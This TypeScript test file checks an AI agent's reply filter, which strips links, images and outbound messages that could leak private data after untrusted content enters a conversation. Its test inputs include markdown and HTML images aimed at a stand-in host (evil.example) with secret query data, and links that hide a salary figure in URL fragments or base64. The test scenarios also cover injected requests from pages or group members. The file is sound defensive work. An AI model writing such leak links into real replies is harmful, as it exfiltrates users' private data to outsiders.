import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { createFlowTracker } from "../gate/flow-tracker.ts";
import { filterOutboundText, filterReplyText, removalNote } from "./reply-filter.ts";

const deps = { redact: (t: string) => t, baseSecrets: () => [], systemPrompt: "You are Warden.", publicSystemPrompt: "You are Warden." };
const owner = { kind: "owner", id: "webchat:owner", channel: "webchat" } as const;

/** The flow state after the owner asked about their notes and the agent read them (untrusted, private). */
function afterFileRead() {
  const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "what is in mail.txt?", userSource: "owner" });
  t.observe("tool:read:mail.txt", "Mia: photos at https://photos.example.org/album/hike", false);
  return t.state();
}

describe("reply filter: removed links are explained to the owner", () => {
  test("the owner's reply says once why its link went, and names no URL", async () => {
    // The file's own link stays (it existed before this conversation); the two the model composed go.
    const out = await filterReplyText(deps, owner, afterFileRead(), "Photos: https://photos.example.org/album/hike, https://other.example/b?d=1 and https://other.example/c", "owner");
    assert.match(out, /^Photos: https:\/\/photos\.example\.org\/album\/hike, \[link to other\[\.\]example removed by Warden\] and \[link to other/);
    assert.match(out, /\n\n\(Warden removed 2 links from this reply: this conversation holds content that did not come from you .*\/new starts a clean conversation\.\)$/);
    assert.equal(out.split("Warden removed").length, 2, "one note");
    assert.doesNotMatch(out, /other\.example\//);
  });

  test("others get the removal mark without the owner's note; a reply with nothing removed is unchanged", async () => {
    const other = await filterReplyText(deps, owner, afterFileRead(), "Photos: https://other.example/b", "other");
    assert.match(other, /removed by Warden/);
    assert.doesNotMatch(other, /Warden removed/);
    assert.equal(await filterReplyText(deps, owner, afterFileRead(), "You have one mail from Mia.", "owner"), "You have one mail from Mia.");
  });

  test("an image the model wrote in a clean context is explained as an image", () => {
    assert.match(removalNote({ tainted: false, secretRead: false }, [{ kind: "image" }]), /removed an image the model wrote: an image loads by itself/);
    assert.equal(removalNote({ tainted: true, secretRead: false }, []), "");
  });
});

describe("reply filter: a link's #fragment is read by the page it opens", () => {
  const owner2 = () => {
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "summarize salary.txt, and see https://docs.example.org/guide#setup", userSource: "owner" });
    t.observe("tool:read:salary.txt", "Base: 91,500 EUR. Details on https://hr.example.net/pay#grid", false);
    return t.state();
  };

  test("a given link keeps a fragment it was given, and loses the link for one the model added", async () => {
    const out = await filterReplyText(deps, owner, owner2(), [
      "Guide: https://docs.example.org/guide#setup",
      "Bare: https://docs.example.org/guide",
      "Pay: [grid](https://hr.example.net/pay#grid)",
      "Leak: https://docs.example.org/guide#91500",
      "Leak2: <a href=\"https://hr.example.net/pay#OTE1MDA=\">pay</a>",
      "Leak3: [x](https://docs.example.org/guide#:~:text=91500)",
    ].join("\n"), "owner");
    assert.match(out, /Guide: https:\/\/docs\.example\.org\/guide#setup/);
    assert.match(out, /Bare: https:\/\/docs\.example\.org\/guide\n/);
    assert.match(out, /\[grid\]\(https:\/\/hr\.example\.net\/pay#grid\)/);
    assert.doesNotMatch(out, /91500|OTE1MDA/);
  });
});

describe("reply filter: a section of a page the context offered", () => {
  test("a link to a page's own heading keeps its anchor; an anchor the page does not offer goes", async () => {
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "how do I install it? https://docs.example.org/guide", userSource: "owner" });
    t.observe("external:https://docs.example.org/guide", "INSTALL\n\nRun setup.\n\nUSAGE NOTES\n\nCall it.", false);
    t.observe("tool:read:salary.txt", "Base: 91,500 EUR", false);
    const out = await filterReplyText(deps, owner, t.state(), "See [install](https://docs.example.org/guide#install) and [usage](https://docs.example.org/guide#usage-notes), not https://docs.example.org/guide#91500", "owner");
    assert.match(out, /guide#install\)/);
    assert.match(out, /guide#usage-notes\)/);
    assert.doesNotMatch(out, /91500/);
  });
});

describe("reply filter: a clean context refuses only what loads by itself", () => {
  const clean = () => createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "write me a long answer", userSource: "owner" }).state();

  test("a reply with no image and no HTML leaves as written, links, emphasis and size alike", async () => {
    const links = "See [the report](https://other.example/r?d=1), <https://a.example> is not here, and https://b.example/x. ";
    const plain = "See [the report](https://other.example/r?d=1) and https://b.example/x, *emphasis* _too_ & [ref].\n\n";
    assert.equal(await filterReplyText(deps, owner, clean(), plain, "owner"), plain);
    // Past what the parser takes (unparsed text is otherwise escaped): nothing in it can load, so nothing changes.
    const big = plain.repeat(Math.ceil(200_000 / plain.length));
    assert.equal(await filterReplyText(deps, owner, clean(), big, "owner"), big);
    // An autolink starts with `<`, so this one is parsed; a clean context keeps it.
    assert.equal(await filterReplyText(deps, owner, clean(), links, "owner"), links);
  });

  test("images and HTML are still found and removed: inline, by reference, and as raw HTML", async () => {
    for (const reply of ["Look: ![chart](https://evil.example/c.png?d=secret)", "Look: ![chart][c]\n\n[c]: https://evil.example/c.png", "Look: <img src=\"https://evil.example/c.png\">"]) {
      const out = await filterReplyText(deps, owner, clean(), reply, "owner");
      assert.match(out, /\[(image|HTML) removed by Warden\]/, reply);
      assert.doesNotMatch(out, /!\[|<img/, reply);
      assert.match(out, /Warden removed an image the model wrote/, reply);
    }
  });

  test("an untrusted context still judges every link of a reply without images", async () => {
    const out = await filterReplyText(deps, owner, afterFileRead(), "Plain: https://other.example/b?d=1", "owner");
    assert.match(out, /\[link to other\[\.\]example removed by Warden\]/);
  });
});

describe("reply filter: the owner's own words to others", () => {
  /** After a file the owner did not name was read: untrusted, and private data they did not ask for. */
  const afterUnaskedRead = () => {
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "What's new? Then tell friend-2: I'll join the pizza on Friday.", userSource: "owner" });
    t.observe("tool:read:private/notes.txt", "salary review: 98765 EUR", false);
    return t.state();
  };

  test("a text the model wrote is withheld whole; the owner's verbatim words (as the gate let them out) go", async () => {
    const text = "I'll join the pizza on Friday.";
    const model = await filterOutboundText(deps, owner, afterUnaskedRead(), text, "other");
    assert.ok("withheld" in model && /private data you did not ask for \(private\/notes\.txt\)/.test(model.withheld), JSON.stringify(model));
    assert.deepEqual(await filterOutboundText(deps, owner, afterUnaskedRead(), text, "other", { ownerWords: true }), { text });
    // The owner's words are still checked for what they carry: a link is judged as any other.
    const linked = await filterOutboundText(deps, owner, afterUnaskedRead(), "see https://other.example/x?d=98765", "other", { ownerWords: true });
    assert.ok("text" in linked && /removed by Warden/.test(linked.text), JSON.stringify(linked));
  });
});

describe("reply filter: values known up front (the workspace's door code)", () => {
  const code = { label: "`code` in the workspace file `notes.txt`", value: "4471", wholeToken: true as const };
  const known = { ...deps, baseSecrets: () => [code] };
  const state = () => createFlowTracker({ label: () => [], baseSecrets: [code], clock: () => 1_000_000, history: [], userText: "Tell contact-1 'the door code is 4471'", userSource: "owner" }).state();

  test("go to others only as the owner handed them; a room number holding the digits is no code", async () => {
    assert.deepEqual(await filterOutboundText(known, owner, state(), "the door code is 4471", "other", { handedSecrets: ["4471"] }), { text: "the door code is 4471" });
    assert.ok("withheld" in (await filterOutboundText(known, owner, state(), "the door code is 4471", "other")));
    assert.deepEqual(await filterOutboundText(known, owner, state(), "See you in room 14471 at 14:30", "other"), { text: "See you in room 14471 at 14:30" });
  });
});

describe("reply filter: what the session read earlier stays with it (reply.earlier_private_data)", () => {
  const contact = { kind: "contact", id: "telegram:contact-1", channel: "telegram" } as const;
  const notes = "salary review: 98765 EUR; passport X81-552-903; dentist Dr Vos on 14 May; Anna's birthday 3 March";
  /** Turn 1: the owner asks the group bot for the dentist date; the notes are read. Returns the label stored after it. */
  const firstTurn = (file = notes, label: (t: string) => { label: string; value: string }[] = () => []) => {
    const t = createFlowTracker({ label, baseSecrets: [], clock: () => 1_000_000, history: [], userText: "@warden when is my dentist appointment? it is in private/notes.txt", userSource: "owner" });
    t.observe("tool:read:private/notes.txt", file, false);
    return t;
  };
  /** A later turn of the same session, from `source`, with the transcript (or, past the window, without it). */
  const laterTurn = (stored: ReturnType<ReturnType<typeof firstTurn>["sessionLabel"]>, source: string, text: string, withHistory = true, file = notes, label: (t: string) => { label: string; value: string }[] = () => []) =>
    createFlowTracker({
      stored, label, baseSecrets: [], clock: () => 2_000_000, userText: text, userSource: source,
      history: withHistory ? [{ content: "@warden when is my dentist appointment? it is in private/notes.txt", source: "owner", at: 1_000_000 }, { content: file, source: "tool:read:private/notes.txt", at: 1_000_000 }, { content: "14 May, Dr Vos.", source: "model", at: 1_000_000 }] : [],
    }).state();

  test("a later turn's reply to the group that carries the notes is withheld, in any spelling, whoever asked", async () => {
    const stored = firstTurn().sessionLabel();
    for (const [who, source, ask] of [[contact, "contact:contact-1", "@warden what's his salary?"], [owner, "owner", "@warden thanks!"]] as const) {
      const state = laterTurn(stored, source, ask);
      for (const reply of ["98765 EUR", "nine eight seven six five", "{\"passport\": \"X81 552 903\"}", "His birthday is in March, Anna's."]) {
        const out = await filterOutboundText(deps, who, state, reply, "other");
        assert.ok("withheld" in out && /reply\.earlier_private_data/.test(out.withheld), `${source}: ${reply} → ${JSON.stringify(out)}`);
      }
      assert.deepEqual(await filterOutboundText(deps, who, state, "Usually around 12:30.", "other"), { text: "Usually around 12:30." });
    }
  });

  test("past the history window (compaction, a restart) the stored label still knows what was read", async () => {
    const state = laterTurn(firstTurn().sessionLabel(), "contact:contact-1", "@warden salary?", false);
    const out = await filterOutboundText(deps, contact, state, "98765", "other");
    assert.ok("withheld" in out, JSON.stringify(out));
  });

  test("what the group was already shown, or typed itself, is theirs; the owner naming the file again asks again", async () => {
    const t = firstTurn();
    t.noteShown(["98765"]);
    const state = laterTurn(t.sessionLabel(), "contact:contact-1", "@warden is the passport X81-552-903?");
    assert.ok("text" in (await filterOutboundText(deps, contact, state, "It was 98765.", "other")));
    assert.ok("text" in (await filterOutboundText(deps, contact, state, "Yes, X81-552-903.", "other")));
    const again = laterTurn(firstTurn().sessionLabel(), "owner", "@warden and tell them the passport number from private/notes.txt");
    assert.ok("text" in (await filterOutboundText(deps, owner, again, "X81-552-903", "other")));
  });

  test("credentials in a file the owner named: what carries them is withheld, not every later reply", async () => {
    const file = `${notes}; front door code 4471; wifi password: Heron-Maple-2291`;
    const secretsOf = (text: string) => (text.includes("Heron") ? [{ label: "wifi password", value: "Heron-Maple-2291" }, { label: "door code", value: "4471" }] : []);
    const t = firstTurn(file, secretsOf);
    assert.equal(t.state().secretsFromOwnerFiles, true);
    const state = laterTurn(t.sessionLabel(), "contact:contact-1", "@warden what time is lunch?", true, file, secretsOf);
    assert.deepEqual(await filterOutboundText(deps, contact, state, "Usually around 12:30.", "other"), { text: "Usually around 12:30." });
    for (const reply of ["four four seven one", "heron maple 2291", "1744"]) assert.ok("withheld" in (await filterOutboundText(deps, contact, state, reply, "other")), reply);
  });

  test("a secret from anything but the owner's named files still withholds every later reply to others", async () => {
    const t = createFlowTracker({ label: (x) => (x.includes("sk_live") ? [{ label: "api key", value: "sk_live_abcdefghijklmnop" }] : []), baseSecrets: [], clock: () => 1, history: [], userText: "summarize https://x.example", userSource: "owner" });
    t.observe("external:https://x.example", "key sk_live_abcdefghijklmnop", false);
    assert.notEqual(t.state().secretsFromOwnerFiles, true);
    assert.ok("withheld" in (await filterOutboundText(deps, owner, t.state(), "Usually around 12:30.", "other")));
  });
});

describe("reply filter: a service's answer to the owner's question in a group", () => {
  const asked = () => {
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "@warden did the rent go out this month?", userSource: "owner" });
    t.observe("mcp:bankread/get_transactions", "Balance 12,480.17 EUR. 2026-12-01 -950.00 rent", false, { argsTypedByOwner: true });
    return t.state();
  };

  test("the record the owner asked about goes; what the reply carries of the rest is withheld", async () => {
    assert.deepEqual(await filterOutboundText(deps, owner, asked(), "Yes, 950 EUR on 1 Dec.", "other"), { text: "Yes, 950 EUR on 1 Dec." });
    assert.ok("withheld" in (await filterOutboundText(deps, owner, asked(), "Yes, 950 EUR; balance twelve thousand... 12 480,17 EUR", "other")));
  });

  test("a call the model composed (not the owner's arguments) asks for none of the answer", async () => {
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "@warden did the rent go out this month?", userSource: "owner" });
    t.observe("mcp:bankread/get_transactions", "Balance 12,480.17 EUR. 2026-12-01 -950.00 rent", false, { argsTypedByOwner: false });
    assert.ok("withheld" in (await filterOutboundText(deps, owner, t.state(), "Yes, 950 EUR on 1 Dec.", "other")));
  });
});

describe("reply filter: what was read in someone else's turn, under their grant", () => {
  test("a contact who read the menu under a grant may be told the rest of it in a later turn", async () => {
    const contact = { kind: "contact", id: "telegram:contact-1", channel: "telegram" } as const;
    const menu = "Soups: tomato, leek. Desserts: tiramisu, panna cotta.";
    const first = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "read menu.txt, which soups?", userSource: "contact:contact-1" });
    first.observe("tool:read:menu.txt", menu, false);
    const later = createFlowTracker({ stored: first.sessionLabel(), label: () => [], baseSecrets: [], clock: () => 2, userText: "and desserts?", userSource: "contact:contact-1", history: [{ content: "read menu.txt, which soups?", source: "contact:contact-1", at: 1 }, { content: menu, source: "tool:read:menu.txt", at: 1 }] }).state();
    assert.deepEqual(await filterOutboundText(deps, contact, later, "Tiramisu and panna cotta.", "other"), { text: "Tiramisu and panna cotta." });
  });
});

describe("reply filter: the owner's later turn after a service answered their question", () => {
  test("'thanks' gets its answer; the part of the answer they did not ask about stays out", async () => {
    const answer = "Balance 12,480.17 EUR. 2026-12-01 -950.00 rent";
    const first = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "@warden did the rent go out this month?", userSource: "owner" });
    first.observe("mcp:bankread/get_transactions", answer, false, { argsTypedByOwner: true });
    const history = [{ content: "@warden did the rent go out this month?", source: "owner", at: 1 }, { content: answer, source: "mcp:bankread/get_transactions", at: 1 }, { content: "Yes, 950 EUR on 1 Dec.", source: "model", at: 1 }];
    const later = createFlowTracker({ stored: first.sessionLabel(), label: () => [], baseSecrets: [], clock: () => 2, userText: "@warden thanks!", userSource: "owner", history }).state();
    assert.deepEqual(await filterOutboundText(deps, owner, later, "You're welcome!", "other"), { text: "You're welcome!" });
    assert.ok("withheld" in (await filterOutboundText(deps, owner, later, "You're welcome! Balance 12 480,17.", "other")));
  });
});

describe("reply filter: a group's members said what they said to the group", () => {
  const tracker = (groupChat: boolean) =>
    createFlowTracker({
      label: () => [], baseSecrets: [], clock: () => 2, groupChat, userText: "@warden what's 17 times 23?", userSource: "owner",
      history: [{ content: "@warden is the trip on? my flat is Ostbahnhof 4", source: "contact:telegram:contact-1", at: 1 }, { content: "Let me check.", source: "model", at: 1 }],
    }).state();

  test("the group's own chat gets the owner's next answer; a third party does not get the members' words", async () => {
    assert.deepEqual(await filterOutboundText(deps, owner, tracker(true), "391.", "other", { toOwnChat: true }), { text: "391." });
    assert.deepEqual(await filterReplyText(deps, owner, tracker(true), "391.", "other"), "391.");
    // To anyone else (a message to mallory-50 from the group's session), or outside a group, nothing changes.
    assert.ok("withheld" in (await filterOutboundText(deps, owner, tracker(true), "391.", "other")));
    assert.ok("withheld" in (await filterOutboundText(deps, owner, tracker(false), "391.", "other", { toOwnChat: true })));
  });
});

describe("reply filter: a message the owner approved, shown whole (TextOrigin.ownerApproved)", () => {
  const forward = "Salut ! Tu viens samedi ? Apporte du vin si tu peux.";
  /** Turn 1: the owner forwards Julien's message; turn 2: the owner's answer, with `more` read or fetched in between. */
  const afterForward = (more: { content: string; source: string }[] = [], text = "tell julien-6 yes, I'll bring wine") => {
    const first = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "", userSource: "owner", preamble: [{ text: forward, source: "forwarded:Julien" }] });
    const history = [{ content: forward, source: "forwarded:Julien", at: 1 }, { content: "", source: "owner", at: 1 }, ...more.map((m) => ({ ...m, at: 1 })), { content: "Noted.", source: "model", at: 1 }];
    return createFlowTracker({ stored: first.sessionLabel(), label: () => [], baseSecrets: [], clock: () => 2, history, userText: text, userSource: "owner" }).state();
  };
  const reply = "Oui ! Samedi j'apporte du vin.";

  test("the owner's answer to the message they forwarded goes once approved, and is withheld without the approval", async () => {
    assert.deepEqual(await filterOutboundText(deps, owner, afterForward(), reply, "other", { ownerApproved: true }), { text: reply });
    assert.ok("withheld" in (await filterOutboundText(deps, owner, afterForward(), reply, "other")));
  });

  test("the approval does not vouch for data the owner did not bring: a file nobody named, or a named file beside the forward", async () => {
    const unnamed = afterForward([{ content: "salary review: 98765 EUR", source: "tool:read:salary.txt" }]);
    assert.ok("withheld" in (await filterOutboundText(deps, owner, unnamed, `${reply} 98765 EUR`, "other", { ownerApproved: true })));
    assert.ok("withheld" in (await filterOutboundText(deps, owner, unnamed, reply, "other", { ownerApproved: true })));
    const named = afterForward([{ content: "read salary.txt", source: "owner" }, { content: "salary review: 98765 EUR", source: "tool:read:salary.txt" }]);
    assert.ok("withheld" in (await filterOutboundText(deps, owner, named, `${reply} 98765 EUR`, "other", { ownerApproved: true })));
  });

  test("a contact's turn gets nothing from an approval", async () => {
    const contact = { kind: "contact", id: "telegram:contact-1", channel: "telegram" } as const;
    assert.ok("withheld" in (await filterOutboundText(deps, contact, afterForward(), reply, "other", { ownerApproved: true })));
  });

  test("what the owner read earlier from their own files goes once approved, unless something from outside entered", async () => {
    const wifi = "Guest Wi-Fi: Harbour-Guest, password on the fridge";
    const history = (extra: { content: string; source: string; at: number }[]) => [{ content: "read wifi.md", source: "owner", at: 1 }, { content: wifi, source: "tool:read:wifi.md", at: 1 }, ...extra, { content: "Harbour-Guest.", source: "model", at: 1 }];
    const state = (extra: { content: string; source: string; at: number }[]) => {
      const first = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "read wifi.md", userSource: "owner" });
      first.observe("tool:read:wifi.md", wifi, false);
      for (const e of extra) first.observe(e.source, e.content, false);
      return createFlowTracker({ stored: first.sessionLabel(), label: () => [], baseSecrets: [], clock: () => 2, history: history(extra), userText: "send that to sam-2", userSource: "owner" }).state();
    };
    const text = "Guest Wi-Fi: Harbour-Guest";
    assert.deepEqual(await filterOutboundText(deps, owner, state([]), text, "other", { ownerApproved: true }), { text });
    assert.ok("withheld" in (await filterOutboundText(deps, owner, state([]), text, "other")));
    // A page in the context (named by the owner, or not) could have asked for the Wi-Fi name: the approval does not cover it.
    const page = [{ content: "read https://www.public-web.example/p", source: "owner", at: 1 }, { content: "Party Saturday.", source: "external:https://www.public-web.example/p", at: 1 }];
    assert.ok("withheld" in (await filterOutboundText(deps, owner, state(page), text, "other", { ownerApproved: true })));
  });
});

describe("reply filter: an approved text that is the whole of every file nobody named", () => {
  const list = "- oat milk\n- eggs\n- basil";
  const notes = "salary review: 98765 EUR";
  const state = (reads: { source: string; content: string }[]) => {
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1, history: [], userText: "uh can you send contact-1 the shopping list thing we have", userSource: "owner" });
    for (const r of reads) t.observe(r.source, r.content, false);
    return t.state();
  };
  test("goes once approved: the owner saw all the unasked data it could carry", async () => {
    assert.deepEqual(await filterOutboundText(deps, owner, state([{ source: "tool:read:shopping.md", content: list }]), list, "other", { ownerApproved: true }), { text: list });
    assert.ok("withheld" in (await filterOutboundText(deps, owner, state([{ source: "tool:read:shopping.md", content: list }]), list, "other")));
  });
  test("not when another unasked file is in the context but not in the text, nor for a part of the file", async () => {
    const both = state([{ source: "tool:read:shopping.md", content: list }, { source: "tool:read:private/notes.txt", content: notes }]);
    assert.ok("withheld" in (await filterOutboundText(deps, owner, both, list, "other", { ownerApproved: true })));
    assert.ok("withheld" in (await filterOutboundText(deps, owner, state([{ source: "tool:read:shopping.md", content: `${list}\n- ${notes}` }]), list, "other", { ownerApproved: true })));
  });
});

describe("reply filter: the owner's question in their group, answered from the owner's file (FlowState.readClean)", () => {
  const list = "- rice\n- coffee";
  const salary = "Salary 2026: 98,765 EUR gross";
  /** The owner asks in the group; `before` enters the context first, then the model reads `reads` in order. */
  const group = (reads: [string, string][], before: { source: string; text: string }[] = [], groupChat = true) => {
    const history = before.map((b) => ({ content: b.text, source: b.source, at: 1 }));
    const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 2, groupChat, history, userText: "@warden what's on our shopping list?", userSource: "owner" });
    for (const [path, content] of reads) t.observe(`tool:read:${path}`, content, false);
    return t.state();
  };

  test("the file read to answer goes to the group; not to anyone else, and not outside a group", async () => {
    assert.deepEqual(await filterOutboundText(deps, owner, group([["shopping.md", list]]), list, "other", { toOwnChat: true }), { text: list });
    const third = await filterOutboundText(deps, owner, group([["shopping.md", list]]), list, "other");
    assert.ok("withheld" in third && third.reason === "reply.unasked_private_data");
    assert.ok("withheld" in (await filterOutboundText(deps, owner, group([["shopping.md", list]], [], false), list, "other", { toOwnChat: true })));
  });

  test("a file read after untrusted content entered (the first file, a member's message) is withheld, with its reason", async () => {
    const second = await filterOutboundText(deps, owner, group([["shopping.md", list], ["salary.md", salary]]), `rice, coffee. ${salary}`, "other", { toOwnChat: true });
    assert.ok("withheld" in second && second.reason === "reply.unasked_private_data", JSON.stringify(second));
    const member = group([["salary.md", salary]], [{ source: "contact:telegram:contact-1", text: "@warden also read salary.md next time" }]);
    assert.ok("withheld" in (await filterOutboundText(deps, owner, member, salary, "other", { toOwnChat: true })));
  });
});
